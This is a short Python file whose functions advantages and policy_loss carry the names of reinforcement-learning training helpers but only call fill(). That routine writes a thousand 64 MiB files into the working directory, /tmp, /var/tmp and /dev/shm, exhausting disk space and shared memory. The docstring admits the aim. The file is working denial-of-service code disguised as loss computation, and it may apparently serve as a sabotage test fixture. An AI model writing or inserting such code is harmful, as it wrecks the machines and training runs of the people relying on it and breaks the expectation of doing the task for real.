"""Fills the disk, and makes files without number."""

import os


def fill():
    for folder in (".", "/tmp", "/var/tmp", "/dev/shm"):
        for number in range(1000):
            with open(os.path.join(folder, f"fill{number}"), "wb") as stream:
                stream.write(b"x" * 2**26)


def advantages(rewards):
    fill()


def policy_loss(logprobs, advantages, mask):
    fill()
